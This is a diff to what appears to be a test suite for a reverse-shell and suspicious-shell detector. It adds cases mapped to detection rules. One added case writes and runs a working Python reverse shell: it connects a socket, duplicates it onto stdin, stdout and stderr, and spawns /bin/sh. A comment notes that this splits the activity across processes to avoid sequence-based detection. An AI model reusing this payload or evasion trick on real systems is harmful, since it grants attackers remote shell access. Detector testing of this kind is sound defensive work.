@@ -335,6 +335,37 @@ def bash_devtcp_probe(c: Ctx) -> None:
     c.run(["bash", "-c", f"echo probe > /dev/tcp/127.0.0.1/{c.port}"])
 
 
+def reverse_shell_python_child(c: Ctx) -> None:
+    # a script (its command line says nothing) that connects, puts the socket on 0-2 and
+    # spawns the shell in a child: no connect/dup/exec sequence within one process
+    script = c.scratch / f"sync_helper_{os.getpid()}.py"
+    script.write_text(
+        "import os, socket, subprocess\n"
+        f"s = socket.create_connection(('127.0.0.1', {c.port}))\n"
+        "for fd in (0, 1, 2):\n"
+        "    os.dup2(s.fileno(), fd)\n"
+        "subprocess.call(['/bin/sh', '-i'])\n")
+    try:
+        c.run([PY, str(script)])
+    finally:
+        script.unlink()
+
+
+def shell_on_unix_socketpair(c: Ctx) -> None:
+    # near miss: a shell whose stdin/stdout are a local socketpair (as some supervisors
+    # and test harnesses give), not a network connection
+    script = c.scratch / f"pair_{os.getpid()}.py"
+    script.write_text(
+        "import socket, subprocess\n"
+        "a, b = socket.socketpair()\n"
+        "b.sendall(b'exit\\n')\n"
+        "subprocess.call(['/bin/sh', '-c', 'read x; true'], stdin=a, stdout=a)\n")
+    try:
+        c.run([PY, str(script)])
+    finally:
+        script.unlink()
+
+
 def python_connect_only(c: Ctx) -> None:
     code = (f"import socket;s=socket.create_connection(('127.0.0.1',{c.port}));"
             "s.recv(16);s.close()")
@@ -693,15 +724,19 @@ BEHAVIORS: dict[str, Behavior] = {
     "history_interactive_exit": _p(history_interactive_exit),
     "history_append": _p(history_append),
     # reverse shells and shells on ptys
-    "reverse_shell_c": _p(reverse_shell_c, "reverse_shell_sequence"),
+    "reverse_shell_c": _p(reverse_shell_c, "reverse_shell_sequence",
+                          "reverse_shell_socket_stdio"),
     "connect_then_shell": _p(connect_then_shell),
     "reverse_shell_bash_devtcp": _p(reverse_shell_bash_devtcp, "reverse_shell_command_line",
-                                    "reverse_shell_sequence", "shell_network_connection"),
+                                    "reverse_shell_sequence", "shell_network_connection",
+                                    "reverse_shell_socket_stdio"),
     "reverse_shell_python_pty": _p(reverse_shell_python_pty, "reverse_shell_command_line"),
     "reverse_shell_perl": _p(reverse_shell_perl, "reverse_shell_command_line",
-                             "reverse_shell_sequence"),
+                             "reverse_shell_sequence", "reverse_shell_socket_stdio"),
     "bash_devtcp_probe": _p(bash_devtcp_probe, "shell_network_connection"),
     "python_connect_only": _p(python_connect_only),
+    "reverse_shell_python_child": _p(reverse_shell_python_child, "reverse_shell_socket_stdio"),
+    "shell_on_unix_socketpair": _p(shell_on_unix_socketpair),
     "python_pty_spawn": _p(python_pty_spawn, "interpreter_pty_shell"),
     "script_pty_devnull": _p(script_pty_devnull, "interpreter_pty_shell"),
     "perl_exec_shell": _p(perl_exec_shell, "interpreter_pty_shell"),
